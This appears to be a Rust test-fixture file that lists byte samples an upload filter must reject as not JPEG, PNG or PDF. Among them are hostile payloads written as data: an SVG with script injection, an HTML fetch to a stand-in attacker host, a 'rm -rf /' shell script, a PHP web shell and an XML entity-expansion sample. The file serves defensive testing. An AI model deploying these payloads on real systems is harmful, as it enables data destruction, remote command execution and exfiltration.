//! What is no picture and no PDF, whatever it is called.

use super::{Musuh, tolak};

pub fn semua() -> Vec<Musuh> {
    const BUKAN: &str = "berkas_bukan_jpeg_png_pdf";
    let satu = |nama, isi: &[u8]| tolak(nama, BUKAN, isi);
    vec![
        satu("kosong", b""),
        satu("satu bita", b"x"),
        satu("gif", b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;"),
        satu("webp", b"RIFF\x24\0\0\0WEBPVP8 \x18\0\0\0"),
        satu("svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"),
        satu("html", b"<!doctype html><script>fetch('https://penjahat.example')</script>"),
        satu("zip", b"PK\x03\x04\x14\0\0\0\x08\0isi.txt"),
        satu("docx", b"PK\x03\x04\x14\0\x06\0\x08\0word/document.xml [Content_Types].xml"),
        satu("exe", b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0This program cannot be run in DOS mode"),
        satu("elf", b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0\x3e\0"),
        satu("bmp", b"BM\x46\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0"),
        satu("tiff", b"II*\0\x08\0\0\0\0\0"),
        satu("heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic"),
        satu("mp4", b"\0\0\0\x18ftypmp42\0\0\0\0isommp42"),
        satu("rar", b"Rar!\x1a\x07\x01\0"),
        satu("7z", b"7z\xbc\xaf\x27\x1c\0\x04"),
        satu("naskah shell", b"#!/bin/sh\nrm -rf /\n"),
        satu("php", b"<?php system($_GET['c']); ?>"),
        satu("xml entitas", b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'ha'><!ENTITY c '&b;&b;&b;'>]><a>&c;</a>"),
        satu("teks utf-16", b"\xff\xfeh\0a\0l\0o\0"),
        satu("jpeg 2000", b"\0\0\0\x0cjP  \r\n\x87\n"),
        satu("sampah di depan pdf", b"GARBAGE\n%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF\n"),
        satu("bom di depan pdf", b"\xef\xbb\xbf%PDF-1.7\n%%EOF\n"),
        satu("postscript", b"%!PS-Adobe-3.0\n(halo) show\n%%EOF"),
    ]
}
